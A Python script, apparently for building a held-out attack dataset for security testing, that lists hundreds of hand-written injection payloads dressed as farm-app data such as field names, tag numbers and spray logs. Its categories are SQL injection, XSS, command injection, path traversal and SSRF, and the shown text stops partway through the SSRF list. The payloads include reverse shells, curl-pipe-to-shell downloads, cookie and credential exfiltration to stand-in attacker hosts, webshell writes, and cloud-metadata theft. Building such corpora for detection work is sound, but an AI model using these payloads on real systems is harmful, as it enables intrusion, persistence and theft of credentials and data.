"""Held-out ATTACK corpus for the agriculture theme.

The values are what an attacker would type into the ordinary fields of a
farm-management app, a co-op ordering portal, a livestock registry and a
precision-ag / telemetry dashboard: field names, spray logs, tag numbers,
grain tickets, controller schedules, webhook URLs, ISOXML task files, report
templates, CSV exports. Each value is a working payload for a vulnerable app that
places it where its class says:

    class = "<context>-<technique>[+<encoding>]"

Contexts used (the sink the vulnerable app puts the value in):
  sqlstr / sqldq / sqlnum / sqlorder / sqllike / sqlinsert / sqlupdate / sqlin /
  sqlident / sqllimit        SQL built by string concatenation
  html / attrdq / attrsq / attrunq / href / iframesrc / jsstr / jsdq / jstpl /
  jsonscript / md / svg / ngtpl / vuetpl / jsonbody      HTML page without escaping
  shellarg / shelldq / shellsq / sshhost / gitremote / mailargv / imgurl /
  cmdwin / pwsh / crontab / filename                     shell command line
  filepath / urlpath / archive / include / exportname    file system path
  webhook / importurl / feedurl / imageurl / jsonconfig  URL fetched server-side
  jinja2 / twig / freemarker / velocity / erb / mako / smarty / nunjucks / pug /
  ejs / gotpl / razor / thymeleaf / spel / ognl / jexl / groovy / mvel / jspel /
  pyeval / jseval / phpeval / log4j / pyyaml / snakeyaml / pickle / phpser /
  phar / dotnetjson / jackson / fastjson / nodeser / xml / svgxml / json /
  query / csv                                            code / data interpreters
  mongojson / mongoquery / mongowhere / mongoagg / mango NoSQL query documents
  header / log / mail / smtp / redisproto / memcacheproto / reqline   CRLF sinks
  ldap / ldapdn / xpath                                  directory / XML queries
  plain                                                  bare payload, no domain text

Every literal below was hand-written for this corpus from an understanding of the
technique; nothing is copied from a public payload list. Attacker infrastructure
is limited to attacker.example, *.attacker.example, 203.0.113.0/24 and
198.51.100.0/24. Secrets are placeholders.

Run:  python3 make_attacks.py   ->  attacks.jsonl next to this file.
"""

import json
import random
from pathlib import Path

SEED = 3902
ID_PREFIX = "ha39"
MIN_LITERAL_SHARE = 0.80

CATEGORY_ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

# ---------------------------------------------------------------------------
# Hand-written literals: (class, value)
# ---------------------------------------------------------------------------

SQLI = [
    ("sqlstr-union", "North 40' UNION SELECT username, password_hash FROM users-- "),
    ("sqlstr-union", "Pivot 2' UNION ALL SELECT NULL, table_name, NULL FROM information_schema.tables WHERE table_schema=database()-- -"),
    ("sqlnum-boolean", "982000123456789 OR 1=1"),
    ("sqlstr-stacked", "L-2024-17'; DROP TABLE spray_log;-- "),
    ("sqlstr-time", "glyphosate 540' AND SLEEP(5)-- "),
    ("sqlstr-stacked-time", "Select Max'; SELECT pg_sleep(7);-- "),
    ("sqlstr-stacked-time", "Paddock 14'; WAITFOR DELAY '0:0:8';-- "),
    ("sqlnum-time", "104577 AND (SELECT 1 FROM (SELECT SLEEP(6))x)"),
    ("sqlstr-error", "Back paddock' AND extractvalue(1, concat(0x7e, (SELECT version()), 0x7e))-- "),
    ("sqlstr-error", "DKC62-08' AND updatexml(null, concat(0x3a, (SELECT user())), null)-- "),
    ("sqlstr-error", "A-17' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)-- "),
    ("sqlstr-error", "Heifers-24' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.sql_logins))-- "),
    ("sqlorder-case-blind", "CASE WHEN (SELECT substring(password_hash,1,1) FROM users WHERE id=1)='$' THEN yield_bu ELSE moisture END"),
    ("sqlorder-error-blind", "moisture_pct, (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)"),
    ("sqllike-boolean", "Pioneer%' AND (SELECT COUNT(*) FROM users WHERE role='admin' AND password_hash LIKE 'a%')>0-- "),
    ("sqlinsert-subquery", "Treated with Draxxin', (SELECT api_token FROM integrations LIMIT 1))-- "),
    ("sqlstr-oob-unc", r"WS-03' UNION SELECT LOAD_FILE(CONCAT('\\\\', (SELECT password_hash FROM users LIMIT 1), '.exfil.attacker.example\\a'))-- "),
    ("sqlstr-oob-unc", r"Tank 3'; EXEC master..xp_dirtree '\\oob.attacker.example\share';-- "),
    ("sqlstr-stacked-rce", "Lot 9'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.14/a.ps1|iex';-- "),
    ("sqlstr-oob-http", "Canola' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("sqlstr-boolean-blind", "Field 12' AND SUBSTR((SELECT password_hash FROM users WHERE username='admin'),1,1)='$' AND 'a'='a"),
    ("sqlstr-boolean", "Schlag „Am Bach“' OR 'x'='x"),
    ("sqlstr-auth-bypass", "agronomist@coop.example'-- "),
    ("sqlnum-union", "0 UNION SELECT 1, group_concat(email,0x3a,password_hash), 3, 4 FROM users"),
    ("sqlstr-union", "Bin 4' UNION SELECT name, sql FROM sqlite_master-- "),
    ("sqlstr-boolean-blind", "Hay' AND (SELECT hex(substr(token,1,1)) FROM sessions LIMIT 1)='61'-- "),
    ("sqlstr-time-heavy", "Orchard Row 1' AND randomblob(300000000) IS NOT NULL-- "),
    ("sqlstr-time-heavy", "Cell 4a' AND BENCHMARK(40000000, SHA1('corn'))-- "),
    ("sqlstr-time-conditional", "EID 982 000123456789' AND IF(ASCII(SUBSTRING((SELECT password_hash FROM users LIMIT 1),1,1))>64, SLEEP(4), 0)-- "),
    ("sqlstr-stacked", "UAN 28%'; UPDATE users SET role='admin' WHERE email='grower7@farm.example';-- "),
    ("sqlstr-stacked", "Dicamba'; INSERT INTO users(email, role, password_hash) VALUES('x@attacker.example','admin','$2b$12$placeholderplaceholderplaceholderplaceholder00');-- "),
    ("sqlstr-stacked-rce", "Block C'; COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.23/p|sh';-- "),
    ("sqlstr-stacked-file", "Valve 5'; CREATE TABLE t(x text); COPY t FROM '/etc/passwd';-- "),
    ("sqlstr-union-outfile", "Zone 3' UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2 INTO OUTFILE '/var/www/html/z.php'-- "),
    ("sqlnum-boolean", "12 AND (SELECT COUNT(*) FROM information_schema.columns WHERE column_name='api_key')>0"),
    ("sqlnum-subquery", "(SELECT CASE WHEN (SELECT COUNT(*) FROM users)>10 THEN 1 ELSE 2 END)"),
    ("sqlstr-boolean-blind", "corn' AND (SELECT settings->>'smtp_password' FROM tenants LIMIT 1) LIKE 'a%'-- "),
    ("sqlstr-error", "Wheat' HAVING 1=1-- "),
    ("sqlstr-error", "Barley' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- "),
    ("sqlstr-error", "Lentils' AND 1=CTXSYS.DRITHSX.SN(1, (SELECT user FROM dual))-- "),
    ("sqlident-stacked", "yield_bu FROM harvest; SELECT email, password_hash FROM users-- "),
    ("sqllimit-error", "10 PROCEDURE ANALYSE(extractvalue(rand(), concat(0x3a, version())), 1)"),
    ("sqlstr-second-order", "Kirkpatrick'||(SELECT api_token FROM integrations LIMIT 1)||'"),
    ("sqlin-boolean", "1,2,3) OR 1=1-- "),
    ("sqldq-boolean", "Hill\" OR \"1\"=\"1"),
    ("sqlstr-union+comment-space", "Pivot 2'/*!50000UNION*//*!50000SELECT*/ user(),2-- -"),
    ("sqlstr-union+comment-space", "North/**/40'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/users#"),
    ("sqlstr-union+case-mix", "Dam #A-17' uNiOn SeLeCt api_key, NULL FrOm integrations-- "),
    ("sqlstr-boolean+urlenc", "Field%2012%27%20OR%20%271%27%3D%271"),
    ("sqlstr-stacked+urlenc2", "Lot%25207%2527%253B%2520DROP%2520TABLE%2520grain_tickets%253B--%2520"),
    ("sqlstr-union+hex", "Bin' UNION SELECT 1, table_name FROM information_schema.tables WHERE table_schema=0x636f6f70-- "),
    ("sqlstr-boolean+char", "Tag' OR username=CHAR(97,100,109,105,110)-- "),
    ("jsonbody-sqlstr-union+unicode-esc", "{\"field\": \"North 40\\u0027 UNION SELECT email, password_hash FROM users-- \"}"),
    ("sqlstr-boolean+whitespace", "Field\t12'\nOR\n'a'='a"),
    ("sqlorder-time", "yield_bu, IF((SELECT COUNT(*) FROM users WHERE role='admin')>1, SLEEP(3), 0)"),
    ("sqlinsert-error", "Ewe 1422', extractvalue(1, concat(0x7e, (SELECT password_hash FROM users LIMIT 1))))-- "),
    ("sqlupdate-column-overwrite", "Jim Miller', role='admin"),
    ("sqlstr-union", "Sow 512' UNION SELECT json_agg(u)::text, NULL FROM users u-- "),
    ("sqlstr-union-file", "Rain gauge' UNION SELECT pg_read_file('/etc/passwd'), NULL-- "),
    ("sqlnum-boolean-blind", "4212 AND ASCII(SUBSTRING((SELECT TOP 1 password_hash FROM users),1,1))>77"),
    ("sqlstr-stacked-file", "Zone 4'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[0]); ?>');-- "),
    ("sqlstr-time", "Rice CL153' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x', 6)-- "),
    ("sqlstr-boolean", "Moisture 15.5%' OR EXISTS(SELECT 1 FROM users WHERE role='admin') AND ''='"),
    ("sqlorder-boolean", "(CASE WHEN (SELECT ascii(substr(api_key,1,1)) FROM integrations LIMIT 1)>100 THEN grain_ticket ELSE net_lb END)"),
    ("plain-boolean", "' OR 1=1-- "),
    ("plain-union", "' UNION SELECT NULL, NULL, NULL-- "),
    ("plain-time", "1' AND SLEEP(5) AND '1'='1"),
    ("plain-stacked", "'; DROP TABLE users; --"),
    ("plain-auth-bypass", "admin' #"),
    ("plain-time", "'; WAITFOR DELAY '00:00:05'--"),
    ("plain-error", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-boolean", "\") OR (\"a\"=\"a"),
]

XSS = [
    ("html-script-tag", "Frost alert <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("html-img-onerror", "Spray log #0412 <img src=x onerror=\"new Image().src='//attacker.example/k?c='+encodeURIComponent(document.cookie)\">"),
    ("html-svg-onload", "Paddock 14 'Stony' <svg onload=alert(document.domain)>"),
    ("attrdq-event-breakout", "North 40\" autofocus onfocus=\"alert(document.cookie)"),
    ("attrsq-event-breakout", "Grandpa' onmouseover='fetch(`//attacker.example/?`+localStorage.getItem(`token`))"),
    ("attrunq-event", "Pivot2 onpointerenter=alert(document.domain) x="),
    ("href-javascript-uri", "javascript:fetch('//attacker.example/s',{method:'POST',body:document.cookie})"),
    ("href-javascript-uri+case-mix", "JaVaScRiPt:alert(document.domain)"),
    ("href-javascript-uri+htmlent", "jav&#x61;script&colon;alert(document.cookie)"),
    ("iframesrc-data-uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("jsstr-breakout", "Field 12';fetch('//attacker.example/?'+document.cookie);//"),
    ("jsstr-script-close", "Sandy Knob</script><script>alert(document.domain)</script>"),
    ("jsdq-breakout", "Heifers-24\"-alert(document.cookie)-\""),
    ("jstpl-interpolation", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("html-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe> see map above"),
    ("html-details-ontoggle", "休薬期間 終了 2024-06-14 <details open ontoggle=alert(document.cookie)>"),
    ("html-body-onload", "Station WS-03 offline <body onload=alert(document.domain)>"),
    ("html-input-autofocus", "Lote de semilla 3X-22917B — <input autofocus onfocus=alert(document.domain)>"),
    ("html-video-source-onerror", "<video><source onerror=\"alert(document.cookie)\"></video> drone footage, block C"),
    ("html-audio-onerror", "<audio src=/nope.mp3 onerror=alert(document.domain)> calving cam audio"),
    ("html-marquee-onstart", "<marquee onstart=alert(document.domain)>Co-op closed Monday</marquee>"),
    ("html-object-data", "Soil report <object data=\"javascript:alert(document.domain)\"></object>"),
    ("html-button-formaction", "<form><button formaction=javascript:alert(document.cookie)>Confirm order</button></form>"),
    ("html-meta-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\"> Invoice INV-2024-0312"),
    ("html-base-hijack", "<base href=\"https://attacker.example/\"> PO #88213"),
    ("html-css-exfil", "Bin 4 <style>input[name=csrf][value^=a]{background:url(https://attacker.example/css?a)}</style>"),
    ("html-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(document.domain)>\"></noscript>"),
    ("html-svg-style-mxss", "Yield map <svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
    ("md-link-javascript", "[Soil test PDF](javascript:alert(document.cookie))"),
    ("md-image-attr-breakout", "![yield map](x\" onerror=\"alert(document.domain))"),
    ("md-raw-html", "## Field notes\n\nEmergence looks even.\n\n<img src=1 onerror=alert(document.cookie)>"),
    ("svg-upload-script", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"300\"><script>fetch('//attacker.example/s?'+document.cookie)</script><rect width=\"400\" height=\"300\" fill=\"green\"/></svg>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(document.domain) /><text x=20 y=20>Open field map</text></a></svg>"),
    ("html-title-breakout", "Spray Log</title><script>alert(document.domain)</script>"),
    ("html-textarea-breakout", "Notes</textarea><img src=x onerror=alert(document.cookie)>"),
    ("jsonscript-close", "{\"tag\":\"4321</script><script>alert(document.domain)</script>\"}"),
    ("attrdq-style-breakout", "Pasture\" style=\"position:fixed;inset:0\" onmousemove=\"alert(document.cookie)"),
    ("html-select-onfocus", "<select autofocus onfocus=alert(document.domain)><option>Corn</option></select>"),
    ("html-a-onclick", "<a href=# onclick=\"fetch('//attacker.example/a',{method:'POST',body:document.body.innerHTML})\">see attached invoice</a>"),
    ("html-dom-clobbering", "<form id=config><input name=apiBase value=\"https://attacker.example/\"></form> Delivery window Mon–Wed"),
    ("ngtpl-csti", "Dam #A-17 {{constructor.constructor('alert(document.domain)')()}}"),
    ("vuetpl-csti", "{{_c.constructor('alert(document.cookie)')()}} — tags 2001–2050"),
    ("html-script-src", "<script src=//attacker.example/x.js></script> (Paddock 7 note)"),
    ("html-img-onerror+htmlent", "&lt;img src=x onerror=alert(document.domain)&gt;"),
    ("html-svg-onload+urlenc", "%3Csvg%20onload%3Dalert(document.domain)%3E"),
    ("html-script-tag+urlenc2", "%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"),
    ("jsonbody-img-onerror+unicode-esc", "{\"note\":\"\\u003cimg src=x onerror=alert(document.domain)\\u003e\"}"),
    ("html-img-onerror+htmlent", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;&#46;&#99;&#111;&#111;&#107;&#105;&#101;&#41;\">"),
    ("html-svg-onload+case-mix", "Lot 7 <SvG/OnLoAd=alert(document.cookie)>"),
    ("href-javascript-uri+whitespace", "java\tscript:alert(document.domain)"),
    ("href-javascript-uri+urlenc", "javascript:%61lert(document.cookie)"),
    ("attrdq-tag-breakout", "Lot 7\"><script>alert(document.domain)</script>"),
    ("attrsq-tag-breakout", "O'Brien'><svg onload=alert(document.domain)>"),
    ("html-iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe> weather widget"),
    ("html-onanimationstart", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(document.cookie)\">Pivot 2</div>"),
    ("html-popover-onbeforetoggle", "<button popovertarget=p>info</button><div id=p popover onbeforetoggle=alert(document.domain)>withdrawal table</div>"),
    ("html-img-onerror-eval", "Tag 4321 <img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS9lJyk='))>"),
    ("html-input-image-onerror", "Confirm delivery <input type=image src=x onerror=alert(document.cookie)>"),
    ("jsstr-backslash-breakout", "Ridge & Furrow\\';alert(document.domain);//"),
    ("attrunq-event", "Cell4a/onclick=alert(document.cookie)"),
    ("html-link-stylesheet", "<link rel=stylesheet href=https://attacker.example/steal.css> Compliance note"),
    ("html-textarea-autofocus", "Ewe 1422 <textarea autofocus onfocus=alert(document.domain)>triplets</textarea>"),
    ("html-xmp-breakout", "</xmp><img src=x onerror=alert(document.domain)><xmp>"),
    ("md-autolink-javascript", "Weather station page: <javascript:alert(document.cookie)>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("plain-svg-onload", "<svg/onload=confirm(1)>"),
    ("plain-javascript-uri", "javascript:alert(document.cookie)"),
    ("plain-attr-breakout", "\"><img src=x onerror=prompt(1)>"),
    ("plain-jsstr-breakout", "';alert(String.fromCharCode(88,83,83))//"),
    ("plain-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
]

CMDI = [
    ("shellarg-semicolon", "zone3; curl -s http://attacker.example/i.sh | sh"),
    ("shellarg-subshell", "TRK-07$(curl -s http://203.0.113.9/$(whoami))"),
    ("filename-backtick", "field12_`uname -a | nc 198.51.100.7 9001`.csv"),
    ("shellarg-and", "Pivot2 && wget -qO- http://attacker.example/b | bash"),
    ("shellarg-or", "/dev/ttyUSB9 || bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"),
    ("shellarg-pipe", "192.168.1.50 | cat /etc/passwd"),
    ("shellarg-newline", "WS-03\nid > /tmp/ws03.out"),
    ("shellarg-ifs", "TASKDATA;cat${IFS}/etc/shadow"),
    ("shellarg-brace-expansion", "sensor7;{cat,/etc/passwd}"),
    ("shellarg-time-blind", "SM-12; sleep 12 #"),
    ("shellarg-time-blind", "gateway01 & ping -c 15 127.0.0.1 &"),
    ("shellarg-dns-exfil", "rtk-base;nslookup $(hostname).oob.attacker.example"),
    ("shelldq-subshell", "Rendement 2023 – blé tendre $(curl http://attacker.example/$(id -u))"),
    ("shelldq-breakout", "Field 12\"; curl -d @/etc/passwd http://attacker.example/u; echo \""),
    ("shellsq-breakout", "O'Brien'; id; echo '"),
    ("shellsq-breakout", "Pivot2'$(wget -qO /tmp/a http://198.51.100.3/a;sh /tmp/a)'"),
    ("sshhost-option-injection", "-oProxyCommand=sh -c 'curl -s http://attacker.example/r|sh'"),
    ("gitremote-option-injection", "--upload-pack=curl -s http://attacker.example/g|sh"),
    ("shellarg-tar-option", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/u.sh"),
    ("shellarg-wget-option", "--post-file=/etc/shadow http://attacker.example/w"),
    ("mailargv-sendmail-log", "grower@farm.example -OQueueDirectory=/tmp -X/var/www/html/m.php"),
    ("shellarg-zip-option", "maps.zip -T -TT 'sh -c id #'"),
    ("imgurl-delegate-injection", "https://attacker.example/map.png\"|curl -s http://attacker.example/m|sh;\""),
    ("cmdwin-ampersand", r"Field12 & type C:\Windows\win.ini"),
    ("cmdwin-pipe", "COM3 | powershell -nop -c \"iwr http://198.51.100.4/x.ps1 -UseBasicParsing | iex\""),
    ("cmdwin-and", r"TASKDATA && certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe && %TEMP%\a.exe"),
    ("cmdwin-env-exfil", "yield.csv & nslookup %USERNAME%.oob.attacker.example"),
    ("pwsh-subexpression", r"Field 12 $(Invoke-WebRequest -Uri http://attacker.example/p -Method Post -Body (Get-Content C:\agbox\config.ini -Raw))"),
    ("pwsh-sq-breakout", "sensor7'; iex (New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1'); '"),
    ("shellarg-glob-obfuscation", "x;/???/??t /???/p??s??"),
    ("shellarg-quote-obfuscation", "x;c'a't /e\"t\"c/pa''sswd"),
    ("shellarg-backslash-obfuscation", r"x;w\h\o\a\m\i"),
    ("shellarg-subshell+hex", r"zone1;$(printf '\x69\x64')"),
    ("shellarg-semicolon+base64", "zone2;echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9pIHwgc2g= | base64 -d | sh"),
    ("shellarg-ansi-c+hex", r"zone5;$'\x63\x61\x74' /etc/passwd"),
    ("shellarg-variable-concat", "x;a=c;b=at;$a$b /etc/passwd"),
    ("shellarg-semicolon+urlenc", "zone3%3Bcurl%20-s%20http%3A%2F%2Fattacker.example%2Fi.sh%7Csh"),
    ("shellarg-newline+urlenc", "WS-03%0Awget%20-qO-%20http%3A%2F%2F203.0.113.9%2Fw%7Csh"),
    ("shellarg-subshell+urlenc2", "TRK-07%2524%2528id%2529"),
    ("shellarg-process-substitution", "log.txt <(curl -s http://attacker.example/p | sh)"),
    ("shellarg-crontab-write", "zone4; echo '* * * * * root curl -s http://attacker.example/c|sh' >> /etc/crontab"),
    ("shellarg-ssh-key-plant", "pivot; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAplaceholderkey attacker' >> ~/.ssh/authorized_keys"),
    ("shellarg-python-revshell", "gw; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("shellarg-perl-exfil", "gw; perl -e 'print `cat /etc/passwd`' | nc 198.51.100.8 5555"),
    ("shellarg-nc-exec", "10.0.0.5; nc -e /bin/sh 203.0.113.9 4444"),
    ("shellarg-mkfifo-revshell", "10.0.0.6; rm -f /tmp/q; mkfifo /tmp/q; sh -i < /tmp/q 2>&1 | nc 203.0.113.9 4445 > /tmp/q"),
    ("shellarg-awk-system", "x; awk 'BEGIN{system(\"id\")}'"),
    ("shellarg-env-exfil", "zone6; env | curl -X POST --data-binary @- http://attacker.example/env"),
    ("shellarg-cred-exfil", "x; cat ~/.aws/credentials | nc 198.51.100.8 9002"),
    ("shelldq-backtick", "Spray log `id`"),
    ("filename-subshell", "$(touch${IFS}/tmp/pwn).shp"),
    ("crontab-line-injection", "0 5 * * 1,3,5 /opt/agbox/bin/run-zone.sh 3; curl -s http://attacker.example/c | sh"),
    ("crontab-newline-injection", "0 5 * * 1\n* * * * * root /bin/sh -c 'curl attacker.example/c|sh'"),
    ("shellarg-webshell-write", "zone7; echo '<?php system($_REQUEST[0]); ?>' | tee /var/www/html/z.php"),
    ("shellarg-busybox-telnetd", "gw; busybox telnetd -l /bin/sh -p 2323"),
    ("shellarg-socat-revshell", "gw; socat tcp:203.0.113.9:4446 exec:sh,pty,stderr"),
    ("shellarg-curl-upload", "gw; curl -F f=@/etc/passwd http://attacker.example/up"),
    ("shellarg-var-slice+var-slice", "x;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd"),
    ("shellarg-rev-obfuscation", "x;$(echo 'dwssap/cte/ tac' | rev)"),
    ("shelldq-breakout", "Block C\\West\"; rm -rf /srv/agbox/data; \""),
    ("shellarg-heredoc", "zone8; sh <<X\ncurl -s http://attacker.example/h | sh\nX"),
    ("shellarg-find-exec", "/data/rx; find / -name '*.pem' -exec curl -F f=@{} http://attacker.example/k \\;"),
    ("shellarg-sed-exec", "zone9; sed -n '1e id' /etc/hostname"),
    ("cmdwin-caret-obfuscation", "Field12 & w^h^o^a^m^i"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& ls -la /"),
    ("plain-newline", "\ncat /etc/hostname"),
    ("plain-time", "; sleep 10"),
    ("plain-cmdwin", "& whoami"),
]

TRAVERSAL = [
    ("filepath-dotdot", "yield/2023/../../../../../etc/passwd"),
    ("filepath-dotdot", "TASKDATA/../../../../../../root/.ssh/id_rsa"),
    ("filepath-dotdot-windows", r"Exports\..\..\..\..\Windows\System32\drivers\etc\hosts"),
    ("filepath-absolute", "/etc/shadow"),
    ("filepath-absolute-windows", r"C:\inetpub\wwwroot\web.config"),
    ("filepath-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("filepath-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fhosts"),
    ("filepath-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("filepath-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afgroup"),
    ("filepath-dotdot-windows+urlenc", "..%5c..%5c..%5cWindows%5cwin.ini"),
    ("filepath-nested-strip-bypass", "....//....//....//etc/passwd"),
    ("filepath-nested-strip-bypass", "..././..././..././proc/self/environ"),
    ("filepath-nullbyte-ext+urlenc", "../../../etc/passwd%00.csv"),
    ("filepath-proc", "../../../../proc/self/cmdline"),
    ("filepath-proc", "/proc/1/environ"),
    ("filepath-dotdot-home", "../../home/agbox/.ssh/id_ed25519"),
    ("filepath-dotdot-app-secrets", "../../../app/.env"),
    ("filepath-dotdot-app-config", "../config/settings.py"),
    ("urlpath-tomcat-path-param", "/maps/..;/..;/WEB-INF/web.xml"),
    ("urlpath-alias-off-by-slash", "/static../app/config.yaml"),
    ("urlpath-dotdot+urlenc", "/maps/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("urlpath-dotdot+fullwidth", "/tiles/．．/．．/．．/etc/passwd"),
    ("filepath-dotdot+unicode-slash", "..∕..∕..∕etc∕passwd"),
    ("archive-zip-slip", "../../../../var/www/html/assets/shell.php"),
    ("archive-zip-slip", "TASKDATA/../../../../etc/cron.d/agbox"),
    ("archive-zip-slip-windows", r"TASKDATA\..\..\..\..\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\u.bat"),
    ("include-php-filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("include-file-scheme", "file:///etc/passwd"),
    ("include-data-wrapper+base64", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
    ("include-lfi-log", "../../../../var/log/nginx/access.log"),
    ("filepath-unc", r"\\203.0.113.7\share\taskdata.xml"),
    ("filepath-dotdot-mixed-sep", r"../..\../..\etc/passwd"),
    ("filepath-absolute+urlenc", "%2Fetc%2Fpasswd"),
    ("filepath-dotdot-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("filepath-dotdot-cloud-creds", "../../../../root/.aws/credentials"),
    ("filepath-dotdot-git", "../.git/config"),
    ("filepath-dotdot-database", "../../data/farm.sqlite3"),
    ("filepath-windows-ads", r"..\..\web.config::$DATA"),
    ("filepath-dotdot+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/issue"),
    ("filepath-dotdot-windows+iis-u-enc", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("exportname-overwrite", "field12_export/../../../../var/www/html/index.php"),
    ("urlpath-dotdot+urlenc2", "/files/..%252f..%252f..%252fetc%252fpasswd"),
    ("filepath-dotdot-systemd", "reports/2024/../../../../etc/systemd/system/agbox.service"),
    ("filepath-absolute-ssh", "/home/agbox/.ssh/authorized_keys"),
    ("plain-dotdot", "../../../../../../etc/passwd"),
    ("plain-dotdot-windows", r"..\..\..\..\..\windows\win.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("plain-proc", "/proc/self/environ"),
]

SSRF = [
    ("webhook-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("importurl-cloud-userdata", "http://169.254.169.254/latest/user-data"),
    ("feedurl-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("importurl-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("feedurl-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook-do-metadata", "http://169.254.169.254/metadata/v1.json"),
    ("imageurl-decimal-ip+alt-ip", "http://2852039166/latest/meta-data/"),
    ("imageurl-hex-ip+alt-ip", "http://0xa9fea9fe/latest/meta-data/hostname"),
    ("imageurl-octal-ip+alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-ipv6-mapped+alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("webhook-ipv6-mapped-hex+alt-ip", "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/info"),
    ("importurl-short-ip+alt-ip", "http://127.1:8080/admin/users"),
    ("importurl-zero-ip", "http://0.0.0.0:9200/_cat/indices?v"),
    ("importurl-ipv6-loopback", "http://[::1]:5984/_all_dbs"),
    ("importurl-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20-s%20http://attacker.example/r%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("importurl-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20farm%0D%0AMAIL%20FROM:%3Cnoreply@coop.example%3E%0D%0ARCPT%20TO:%3Cvictim@farm.example%3E%0D%0ADATA%0D%0ASubject:%20Invoice%0D%0A%0D%0APay%20now%0D%0A.%0D%0AQUIT%0D%0A"),
    ("importurl-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("imageurl-file-scheme", "file:///proc/net/arp"),
    ("importurl-file-scheme", "file://localhost/etc/hosts"),
    ("webhook-consul-kv", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("webhook-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("webhook-kubelet", "https://10.0.0.1:10250/pods"),
    ("webhook-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
